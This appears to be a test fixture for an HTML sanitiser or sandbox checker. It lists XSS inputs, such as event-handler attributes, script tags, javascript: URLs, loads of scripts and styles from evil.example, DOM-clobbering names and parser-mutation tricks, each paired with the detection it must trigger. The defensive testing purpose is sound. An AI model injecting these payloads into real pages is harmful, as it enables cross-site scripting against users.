// HTML nobody cleaned, and what has to be noticed about it: without these a test that finds nothing says nothing.

/** `notices`: by kind of finding, a line that has to be there. */
export const controls = [
  { html: '<img src=x onerror=alert(1)>', notices: { ran: /^alert was called/, left: /handler onerror on img/ } },
  { html: '<p onpointerenter="confirm(1)">x</p>', notices: { ran: /^confirm was called/ } },
  { html: '<details ontoggle=prompt(1)><summary>x</summary></details>', notices: { ran: /^prompt was called/ } },
  { html: '<video onloadeddata="print()"></video>', notices: { ran: /^print was called/ } },
  { html: '<button onfocus="fetch(\'/x\')">x</button>', notices: { ran: /^fetch was called/, left: /element button/ } },
  { html: '<b onclick="window.open(\'/x\')">x</b>', notices: { ran: /^open was called/ } },
  { html: '<b onclick="document.write(1)">x</b>', notices: { ran: /^the document was written/ } },
  { html: '<i onclick="nobodyKnows()">x</i>', notices: { ran: /^a script failed/ } },
  { html: '<i onclick="navigator.sendBeacon(\'/x\')">x</i>', notices: { ran: /^a beacon was sent/ } },
  { html: '<i onclick="location.hash = 1">x</i>', notices: { ran: /^the frame went to about:srcdoc#1/ } },
  { html: '<body onload=alert(1)>', notices: { ran: /^alert was called/, left: /attribute onload on body/ } },
  { html: '<template><p onclick=alert(1)></template>', notices: { left: /handler onclick on p/ } },
  { html: '<script>alert(1)</script>', notices: { ran: /^alert was called/, left: /element script/ } },
  {
    html: '<script src="//evil.example/x.js"></script>',
    notices: { ran: /^script-src\S* asked for http:\/\/evil\.example/ },
  },
  {
    html: '<a href="javascript:alert(1)">x</a>',
    notices: { ran: /^alert was called/, left: /address href=javascript/ },
  },
  { html: '<a href="java\nscript:alert(1)" target=_blank>x</a>', notices: { ran: /^alert was called/ } },
  {
    html: '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    notices: { left: /element svg of another language/ },
  },
  { html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>', notices: { ran: /^alert was called/ } },
  { html: '<blockquote cite="javascript:alert(1)">x</blockquote>', notices: { left: /address cite/ } },
  { html: '<img srcset="/a.png 1x, data:text/html,x 2x">', notices: { left: /address srcset/ } },
  {
    html: '<link rel=stylesheet href="//evil.example/x.css">',
    notices: { asked: /^style-src\S* asked for http:\/\/evil\.example/, left: /element link/ },
  },
  {
    html: '<style>@import "//evil.example/x.css";</style>',
    notices: { asked: /^style-src\S* asked for/, styles: /a style sheet/ },
  },
  {
    html: '<p style="background:url(//evil.example/x.png)">x</p>',
    notices: { asked: /^img-src asked for http:\/\/evil\.example/, styles: /url\(/ },
  },
  { html: '<p style="position:fixed;inset:0">x</p>', notices: { styles: /^position: fixed/ } },
  { html: '<p style="width:100vw">x</p>', notices: { styles: /^width: 100vw/ } },
  {
    html: '<iframe src="//evil.example/"></iframe>',
    notices: { asked: /^frame-src asked for/, left: /element iframe/ },
  },
  { html: '<iframe name=config srcdoc="x"></iframe>', notices: { clobbered: /^window\.config is \S/ } },
  {
    html: '<img name=cookie src=x>',
    notices: { clobbered: /^document\.cookie is \[object HTMLCollection\]/, left: /name cookie on img/ },
  },
  { html: '<form name=body><input id=x></form>', notices: { clobbered: /^document\.body is/ } },
  {
    html: '<a id=config></a><a id=config name=url href="//x"></a>',
    notices: { clobbered: /^window\.config is \[object HTML/, left: /id config on a/ },
  },
  { html: '<a href=/x target=_top>x</a>', notices: { left: /target _top/ } },
  { html: '<form><div></form><form>x', notices: { moved: /^read again/ } },
  {
    html: '<noscript><p title="</noscript><img src=x>"></noscript>',
    notices: { moved: /^without scripting|^in a template/ },
  },
  { html: '<p>a<table></table>', notices: { moved: /^in an old document/ } },
];
